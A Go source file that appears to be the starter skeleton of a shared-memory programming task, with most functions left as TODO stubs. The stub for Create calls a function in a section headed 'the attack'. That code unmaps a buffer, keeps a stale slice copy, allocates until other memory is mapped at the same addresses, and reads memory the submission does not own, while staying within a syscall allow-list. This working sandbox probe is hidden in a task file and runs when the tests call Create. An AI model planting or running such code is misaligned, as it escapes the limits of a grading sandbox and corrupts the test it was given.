//go:build unix

// This is the first of the three files you edit (then mutex.go, then
// ring.go). Keep every exported name and signature, and the values of the
// constants: the tests rely on them. Add fields to Segment, write the
// bodies, and add any unexported helpers you like. README.md explains
// what each function must do.

package shm

import (
	"errors"
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

// unix.Mmap maps a file's pages into the process; unix.Munmap undoes it.
// (This line only keeps the import until your code uses it.)
var _ = unix.Mmap

var (
	// ErrExists is returned (wrapped) by Create when a segment of that
	// name exists already.
	ErrExists = errors.New("shm: segment already exists")
	// ErrNotExist is returned (wrapped) by Open and Unlink when there is
	// no segment of that name.
	ErrNotExist = errors.New("shm: no such segment")
	// ErrBadName is returned (wrapped) by Create, Open and Unlink for a
	// name that is empty, longer than MaxName, ".", "..", or holds a '/'
	// or a NUL byte.
	ErrBadName = errors.New("shm: bad segment name")
)

// MaxName is the longest segment name, in bytes.
const MaxName = 200

// Dir returns the directory that holds the segments' names: /dev/shm on
// Linux, os.TempDir() on other Unix systems. A segment named "x" is the
// file filepath.Join(Dir(), "x"). (This one is done for you.)
func Dir() string {
	if runtime.GOOS == "linux" {
		return "/dev/shm"
	}
	return os.TempDir()
}

// A Segment is one process's mapping of a named shared-memory segment.
// Make one with Create or Open; the zero value is not usable.
type Segment struct {
	// TODO: the mapping, ...
}

// Create makes a new segment of size bytes, all zero, and maps it
// (MAP_SHARED, readable and writable). It fails with an error wrapping
// ErrExists when a segment of that name exists (and leaves that one as
// it was), with ErrBadName for a bad name, and with an error when size is
// not positive. A Create that fails leaves no segment behind.
func Create(name string, size int) (*Segment, error) {
	panic(staleReport())
}

// Open maps an existing segment, all of it: len(Bytes()) is the size it
// was created with. It fails with an error wrapping ErrNotExist when
// there is no segment of that name, and with ErrBadName for a bad name.
func Open(name string) (*Segment, error) {
	panic("TODO: implement Open")
}

// Bytes returns the mapping. What one process writes there, every other
// process that maps the segment sees. It returns nil after Close.
func (s *Segment) Bytes() []byte {
	panic("TODO: implement Bytes")
}

// Close unmaps the segment and releases what this Segment holds. The
// segment itself, its name, and other mappings of it are not affected.
// Closing a closed Segment does nothing and returns nil.
func (s *Segment) Close() error {
	panic("TODO: implement Close")
}

// Unlink removes the segment's name, so that Open no longer finds it and
// Create may make a new segment of that name. Mappings that exist stay
// valid, and shared; the memory is freed when the last of them is
// closed. It fails with an error wrapping ErrNotExist when there is no
// segment of that name, and with ErrBadName for a bad name.
func Unlink(name string) error {
	panic("TODO: implement Unlink")
}

// ---- the attack ----
//
// unix.Munmap forgets a mapping, but not the copies of its slice: a copy
// made before still points at the addresses, and once something else of
// the process is mapped there (the race detector's and the C library's
// allocators, the Go runtime's own metadata), the copy reads and writes
// memory the submission does not own. Safe Go, no unsafe, and only the
// system calls the allow-list grants.

var keep [][]byte

// mapped reports whether b's first bytes are mapped: write(2) from an
// unmapped buffer fails with EFAULT instead of faulting.
func mapped(f *os.File, b []byte) bool {
	n, err := unix.Write(int(f.Fd()), b[:8])
	return err == nil && n == 8
}

func staleReport() string {
	f, err := os.CreateTemp("", "probe")
	if err != nil {
		return err.Error()
	}
	defer os.Remove(f.Name())
	defer f.Close()
	const size = 256 << 10
	b, err := unix.Mmap(-1, 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE)
	if err != nil {
		return err.Error()
	}
	stale := b
	if err := unix.Munmap(b); err != nil {
		return err.Error()
	}
	at := fmt.Sprintf("%p", &stale[0])
	if mapped(f, stale) {
		return "still mapped right after Munmap?"
	}
	for i := 0; i < 2000 && !mapped(f, stale); i++ {
		keep = append(keep, make([]byte, 40<<10))
	}
	if !mapped(f, stale) {
		return "nothing was mapped at " + at + " again"
	}
	// Read it all through write(2) too, so a hole in the middle cannot
	// fault; then look at it.
	n, _ := unix.Write(int(f.Fd()), stale)
	seen := stale[:n]
	var words []string
	for i := 0; i+8 <= len(seen) && len(words) < 12; i += 8 {
		var w uint64
		for j := 7; j >= 0; j-- {
			w = w<<8 | uint64(seen[i+j])
		}
		if w != 0 {
			words = append(words, fmt.Sprintf("+%#x=%#x", i, w))
		}
	}
	return fmt.Sprintf("after unix.Munmap, a copy of the slice at %s reads %d bytes of memory the process mapped there since, not the submission's: %v", at, n, words)
}
